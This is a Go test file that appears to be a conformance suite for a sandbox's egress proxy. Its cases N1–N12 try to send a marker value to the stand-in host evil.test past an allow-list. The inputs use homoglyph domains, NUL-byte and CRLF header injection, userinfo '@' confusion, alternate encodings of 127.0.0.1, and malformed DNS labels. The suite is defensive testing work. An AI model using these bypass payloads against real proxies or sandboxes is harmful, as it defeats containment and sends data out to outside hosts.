package main

import (
	"errors"
	"strings"

	"github.com/miekg/dns"

	"github.com/bailey-sandbox/bailey/internal/conformance/egress/plan"
)

func init() {
	cases["N1"] = func(c *attempt) {
		for _, name := range []string{"evil-" + plan.OK, plan.OK + ".evil.test", "x" + plan.OK} {
			c.act()
			c.tunnel(name+":443", name)
			c.act()
			if a, err := ask("udp", server, name, dns.TypeA); err == nil {
				c.note("%s: %s", name, dns.RcodeToString[a.Rcode])
			}
			c.act()
			a, err := c.over(plan.OK, name, get(name, "/?c="+c.Bad))
			c.note("SNI %s: %v %v", name, a.status, err)
		}
		c.allowed(plan.OK)
	}
	cases["N2"] = func(c *attempt) {
		for _, name := range []string{plan.Apex, plan.TwoLabel, plan.DeepApex} {
			c.act()
			c.tunnel(name+":443", name)
		}
		c.allowed(plan.OneLabel)
	}
	cases["N4"] = func(c *attempt) {
		c.act()
		c.tunnel("EVIL.Test:443", "EVIL.Test")
		c.act()
		a, err := c.over(plan.OK, "EVIL.TEST", get("Evil.Test", "/?c="+c.Bad))
		c.note("%v %v", a.status, err)
		a, err = c.over(plan.Cased, "CASED.Test", get("cASED.tEST", "/?c="+c.Good))
		c.twin("another case in SNI and Host", errors.Join(err, a.ok()))
	}
	cases["N5"] = func(c *attempt) {
		c.act()
		c.tunnel("evil.test.:443", "evil.test")
		c.act()
		c.note("%v", second(ask("udp", server, "n5.evil.test.", dns.TypeA)))
		a, err := c.over(plan.Cased, plan.Cased, get(plan.Cased+".", "/?c="+c.Good))
		c.twin("a final dot in Host", errors.Join(err, a.ok()))
	}
	cases["N6"] = func(c *attempt) {
		for _, name := range []string{"оk.test", "xn--k-8tb.test", "evil。test"} {
			c.act()
			c.tunnel(name+":443", name)
		}
		c.allowed(plan.German)
	}
	cases["N7"] = func(c *attempt) {
		name := "evil.test\x00." + plan.OK
		c.act()
		a, err := c.socks(name, 443, get(plan.Evil, "/?c="+c.Bad))
		c.note("SOCKS: %v %v", a.status, err)
		c.act()
		c.tunnel(name+":443", plan.Evil)
		c.act()
		a, err = c.over(plan.OK, name, get(plan.Evil, "/?c="+c.Bad))
		c.note("SNI: %v %v", a.status, err)
		a, err = c.socks(plan.OK, 443, get(plan.OK, "/?c="+c.Good))
		c.twin("SOCKS5 to "+plan.OK, errors.Join(err, a.ok()))
	}
	cases["N8"] = func(c *attempt) {
		c.act()
		a, err := c.socks(plan.OK+":443\r\nHost: "+plan.Evil+"\r\n\r\n", 443, get(plan.Evil, "/?c="+c.Bad))
		c.note("%v %v", a.status, err)
		a, err = c.socks(plan.OK, 80, get(plan.OK, "/?c="+c.Good))
		c.twin("SOCKS5 to port 80", errors.Join(err, a.ok()))
	}
	cases["N9"] = func(c *attempt) {
		c.act()
		c.note("%v", second(c.viaProxy("GET http://"+plan.OK+"@"+plan.Evil+"/?c="+c.Bad+" HTTP/1.1\r\nHost: "+plan.Evil+"\r\n\r\n")))
		c.act()
		c.note("%v", second(c.over(plan.OK, plan.OK, get(plan.OK+"@"+plan.Evil, "/?c="+c.Bad))))
		c.act()
		c.tunnel(plan.OK+"@"+plan.Evil+":443", plan.Evil)
		c.allowed(plan.OK)
	}
	cases["N10"] = func(c *attempt) {
		c.act()
		c.tunnel(plan.OK+":8443", plan.OK)
		c.act()
		a, err := c.over(plan.OK, plan.OK, get(plan.OK+":8443", "/?c="+c.Bad))
		c.note("%v %v", a.status, err)
		a, err = c.over(plan.OK, plan.OK, get(plan.OK+":443", "/?c="+c.Good))
		c.twin("Host with the port of the connection", errors.Join(err, a.ok()))
	}
	cases["N11"] = func(c *attempt) {
		for _, host := range []string{"2130706433", "0177.0.0.1", "0x7f.1", "0x7f000001", "127.1", "0", "127.0.0.1", "[::ffff:127.0.0.1]", "[::]", "0.0.0.0"} {
			c.act()
			c.tunnel(host+":5999", "localhost")
			c.act()
			a, err := c.viaProxy("GET http://" + host + ":5999/?c=" + c.Bad + " HTTP/1.1\r\nHost: " + host + ":5999\r\nConnection: close\r\n\r\n")
			c.note("%s: %v %v", host, a.status, err)
		}
		a, err := c.viaProxy("GET http://" + plan.OK + "/?c=" + c.Good + " HTTP/1.1\r\nHost: " + plan.OK + "\r\nConnection: close\r\n\r\n")
		c.twin("absolute form at the proxy", errors.Join(err, a.ok()))
	}
	cases["N12"] = func(c *attempt) {
		for _, name := range []string{strings.Repeat("a", 64) + "." + plan.Apex, strings.Repeat("a.", 126) + plan.DeepApex, "a.." + plan.DeepApex, "-a." + plan.Apex, "a-." + plan.Apex, "a b." + plan.Apex, "." + plan.Apex} {
			c.act()
			c.tunnel(name+":443", plan.OneLabel)
		}
		c.allowed(plan.OneLabel)
	}
}

func second[T any](_ T, err error) error { return err }

// viaProxy sends a request in absolute form to the proxy.
func (c *attempt) viaProxy(text string) (answer, error) {
	conn, err := to(proxy)
	if err != nil {
		return answer{}, err
	}
	defer conn.Close()
	return exchange(conn, text)
}
